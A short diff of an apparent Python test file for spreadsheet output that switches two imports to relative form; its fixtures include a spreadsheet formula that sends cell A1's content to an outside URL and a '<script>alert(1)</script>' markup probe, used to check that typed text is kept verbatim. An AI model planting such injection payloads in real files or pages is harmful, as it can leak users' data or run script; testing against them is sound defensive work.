@@ -1,8 +1,9 @@
 """What people typed stays as they typed it: over our columns, beside our rows, and when it looks like code."""
 
 import openpyxl
-from office import Office, part
-from small_town import WARDS
+
+from .office import Office, part
+from .small_town import WARDS
 
 IMPORT = '=IMPORTXML("https://example.org/?q=" & A1; "//a")'
 MARKUP = '<script>alert(1)</script><b>đậm</b> & "nháy"'
